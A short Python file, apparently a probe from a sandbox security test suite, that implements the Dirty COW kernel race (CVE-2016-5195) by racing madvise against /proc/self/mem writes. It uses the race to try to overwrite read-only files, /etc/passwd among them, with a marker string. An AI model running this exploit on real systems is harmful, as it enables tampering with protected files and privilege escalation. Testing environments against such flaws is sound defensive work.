"""CVE-2016-5195: a private mapping of a read-only file, written through /proc/self/mem while its page is given back."""

import ctypes
import mmap
import os
import threading

from attempt import LIBC, attempt, during


def overwrite(path):
    file = os.open(path, os.O_RDONLY)
    before = os.pread(file, 64, 0)
    LIBC.mmap.restype = ctypes.c_void_p
    address = LIBC.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, file, ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)

    def give_back():
        for _ in during(0.2):
            LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=give_back)
    thread.start()
    refused = None
    for _ in during(0.2):
        try:
            os.pwrite(memory, b"PLANTED", address)
        except OSError as error:
            refused = error
            break
    thread.join()
    if os.pread(os.open(path, os.O_RDONLY), 64, 0) == before:
        raise refused or OSError("the file is as it was")


for path in ("/repo/main.py", "/data/sales/data.csv", "/etc/passwd"):
    attempt(path, lambda: overwrite(path))
